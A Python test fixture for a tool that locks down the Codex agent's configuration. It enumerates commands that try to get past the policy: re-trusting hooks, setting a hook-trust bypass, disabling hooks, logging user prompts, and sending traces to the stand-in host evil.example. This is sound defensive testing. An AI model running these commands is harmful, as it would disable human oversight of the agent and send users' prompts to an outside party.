"""Commands of our own that would write what the policy forbids: one line each.

They follow one another in a home that is set up and no longer trusted, and each is undone by
putting Codex's home back as it was, so that one start of the machine tries them all.
"""

from __future__ import annotations

from dataclasses import dataclass

POLICY = """\
version = 1
[destinations]
allow = ["https://otel.example.com/"]
local = true
[trust]
bypass = false
self_trust = false
[codex]
otel_content = false
[codex.features]
hooks = true
memories = false
"""
# What a person has before root says no; the hook's key and its hash are kept for later.
SET_UP = """\
codexctl setup --yes --no-proof --destination local
grep -A1 'hooks.state' ~/.codex/config.toml > ~/trusted
codexctl hooks untrust --all --yes --offline
cp -rp ~/.codex ~/before; cp -rp ~/.config ~/config; cp -rp ~/.local ~/local
"""
_EDGE = "===="
_TRY = """\
KEY=$(sed -n 's/^.hooks.state."\\(.*\\)".$/\\1/p' ~/trusted | head -1)
HASH=$(sed -n 's/^trusted_hash = "\\(.*\\)"$/\\1/p' ~/trusted | head -1)
{}
echo '{}'; cat ~/.codex/*.toml ~/.config/codexctl/settings.toml
rm -rf ~/.codex ~/.config ~/.local
cp -rp ~/before ~/.codex; cp -rp ~/config ~/.config; cp -rp ~/local ~/.local
echo '{}'
"""


@dataclass(frozen=True)
class Command:
    """The words after `codexctl`, and what stands in Codex's or our own files if they do it."""

    words: str
    written: str

    @property
    def line(self) -> str:
        is_setup = self.words.startswith("setup")
        return f"codexctl {self.words} --yes {'' if is_setup else '--offline'}"


def setting(key: str, value: str, written: str) -> Command:
    return Command(f"config set --unchecked '{key}' '{value}'", written)


TRUSTED, BYPASS, OFF = "trusted_hash = ", "bypass_hook_trust = true", "hooks = false"
COMMANDS: dict[str, Command] = {
    "undo, so that trust is there again": Command("undo", TRUSTED),
    "hooks trust": Command("hooks trust --all", TRUSTED),
    "hooks add --trust": Command("hooks add Stop /bin/false --trust", TRUSTED),
    "config set of a hook's trusted_hash": Command(
        'config set --unchecked "hooks.state.\\"$KEY\\".trusted_hash" "$HASH"', TRUSTED
    ),
    "config set of all trust": Command(
        'config set --unchecked hooks.state "{ \\"$KEY\\" = { trusted_hash = \\"$HASH\\" } }"',
        "trusted_hash",
    ),
    "config set of the bypass": setting("hooks.bypass_hook_trust", "true", BYPASS),
    "config set of the bypass at the top": setting("bypass_hook_trust", "true", BYPASS),
    "config set of the bypass in a table": setting("hooks", "{ bypass_hook_trust = true }", BYPASS),
    "features disable hooks": Command("features disable --unchecked hooks", OFF),
    "features disable by the old name": Command(
        "features disable --unchecked codex_hooks", "hooks = false"
    ),
    "config set of hooks to false": setting("features.hooks", "false", OFF),
    "config set of all features": setting("features", "{ hooks = false }", OFF),
    "config set of a profile's feature": setting("profiles.p.features.hooks", "false", OFF),
    "features enable of what is pinned": Command(
        "features enable --unchecked memories", "memories = true"
    ),
    "config set of what is pinned": setting("features.memories", "true", "memories = true"),
    "config set of Codex's own telemetry": setting(
        "otel.log_user_prompt", "true", "log_user_prompt = true"
    ),
    "config set of where that goes": setting(
        "otel.trace_exporter",
        '{ otlp-http = { endpoint = "https://evil.example/", protocol = "json" } }',
        "evil.example",
    ),
    "setup with the bypass": Command(
        "setup --no-proof --destination local --trust bypass", "bypass_hook_trust"
    ),
    "setup with trust": Command(
        "setup --no-proof --destination local --trust this-hook", TRUSTED
    ),
    "setup with an address that is not listed": Command(
        "setup --no-proof --destination otlp --endpoint https://evil.example/v1/traces",
        "evil.example",
    ),
}  # fmt: skip
SCRIPT = "".join(_TRY.format(command.line, _EDGE, _EDGE) for command in COMMANDS.values())


def files_after(printed: bytes) -> dict[str, str]:
    """What stands in the files after each command, by the command's name."""
    return dict(zip(COMMANDS, printed.decode().split(f"{_EDGE}\n")[1::2], strict=True))
